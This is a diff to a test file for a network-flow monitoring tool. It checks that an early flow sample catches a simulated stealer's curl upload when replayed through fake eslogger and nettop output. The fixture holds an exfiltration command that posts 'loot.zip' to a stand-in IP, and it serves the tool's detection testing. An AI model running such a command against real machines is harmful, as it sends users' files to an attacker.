@@ -1,7 +1,7 @@
 /**
  * A transfer tool's exec brings the next flow sample forward (flows.transfer_sample_delay), end to end through the
  * darwin backend on Linux: `outflow query` with the fake eslogger playing the exec of `curl -F @loot.zip http://…` and
- * the fake nettop, whose second sample is the first to show curl's upload. With a sample interval of 30 s, only the
+ * the fake nettop, whose second sample is the first to show curl's upload. With a sample interval of 60 s, only the
  * early sample can show it within the query's few seconds of collection: a stealer's curl that sends its haul in a
  * second or two and exits is gone by the next regular sample.
  */
@@ -43,9 +43,9 @@ async function collect(delay: number) {
   const es = path.join(dir, 'eslogger.jsonl');
   writeFileSync(es, esLine({ kind: 'exec', timeMs: now, gseq: 1, process: zsh, body: body.exec(curl, ['curl', '-s', '-F', 'f=@/tmp/.l/loot.zip', 'http://203.0.113.9/up'], '/tmp', 10) }) + '\n');
   const config = path.join(dir, 'config.yaml');
-  writeFileSync(config, `flows:\n  sample_interval: 30\n  transfer_sample_delay: ${delay}\nprocesses:\n  sample_interval: 30\n`);
+  writeFileSync(config, `flows:\n  sample_interval: 60\n  transfer_sample_delay: ${delay}\nprocesses:\n  sample_interval: 30\n`);
   const calls = path.join(dir, 'calls.jsonl');
-  const r = await runOutflow(['query', '--config', config, '--format', 'json', '--collect', '3', 'SELECT pid, remote_address, bytes_out FROM process_network_flows ORDER BY pid'], {
+  const r = await runOutflow(['query', '--config', config, '--format', 'json', '--collect', '8', 'SELECT pid, remote_address, bytes_out FROM process_network_flows ORDER BY pid'], {
     env: {
       ...process.env,
       OUTFLOW_PLATFORM: 'darwin',
@@ -63,8 +63,8 @@ async function collect(delay: number) {
   return { rows, nettopRuns };
 }
 
-describe('an early flow sample after the exec of a transfer tool (darwin, fake eslogger and nettop)', () => {
-  it("curl's upload is sampled within the query's 3 s of collection, not 30 s later", { timeout: 90_000 }, async () => {
+describe.concurrent('an early flow sample after the exec of a transfer tool (darwin, fake eslogger and nettop)', () => {
+  it("curl's upload is sampled within the query's 8 s of collection, not 60 s later", { timeout: 90_000 }, async () => {
     const { rows, nettopRuns } = await collect(0.5);
     expect(rows).toContainEqual({ pid: CURL, remote_address: '203.0.113.9', bytes_out: 3145728 });
     // the early sample, and at most a few more: samples come no closer than the delay
@@ -72,7 +72,7 @@ describe('an early flow sample after the exec of a transfer tool (darwin, fake e
     expect(nettopRuns).toBeLessThanOrEqual(8);
   });
 
-  it('with transfer_sample_delay 0 the next sample waits its turn: the upload is not seen in those 3 s', { timeout: 90_000 }, async () => {
+  it('with transfer_sample_delay 0 the next sample waits its turn: the upload is not seen in those 8 s', { timeout: 90_000 }, async () => {
     const { rows, nettopRuns } = await collect(0);
     expect(rows.filter((r) => r.pid === CURL)).toEqual([]);
     expect(nettopRuns).toBe(1);
